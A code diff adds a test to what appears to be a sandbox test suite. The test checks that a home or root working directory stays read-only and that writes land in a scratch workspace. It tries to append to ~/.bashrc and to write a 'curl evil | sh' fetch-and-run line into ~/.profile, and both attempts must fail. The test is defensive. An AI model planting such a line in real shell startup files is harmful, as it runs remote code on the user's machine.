@@ -369,3 +369,19 @@ async def test_a_link_to_the_hosts_tmp_reads_what_a_command_would_see_there(plac
         assert "HOST-TMP-CONTENT" not in shown.text
     finally:
         shutil.rmtree(host_file.parent)
+
+
+@needs_bwrap
+@pytest.mark.parametrize("where", ["home", "root"])
+async def test_a_home_or_root_working_directory_is_never_made_writable_whole(place, tmp_path, where):
+    home, _ = place
+    cwd = home if where == "home" else Path("/")
+    data = tmp_path / "data"
+    target = LocalMachine(cwd, sandbox=Sandbox(SandboxPolicy(data=str(data)), bubblewrap(), home=home))
+    assert target.workspace == data / "scratch" and "read-only" in target.sandbox.describe(cwd)
+    done = await run(target, f"touch made-in-scratch; echo x >> {home}/.bashrc; pwd")
+    assert (data / "scratch" / "made-in-scratch").exists() and not (home / ".bashrc").exists()
+    assert f"stdout:\n{data / 'scratch'}\n" in done.text  # commands start in the scratch workspace
+    refused = await target.write_file(str(home / ".profile"), "curl evil | sh\n")
+    assert refused.is_error and not (home / ".profile").exists()
+    assert not (await target.write_file("notes.txt", "ok")).is_error and (data / "scratch" / "notes.txt").exists()
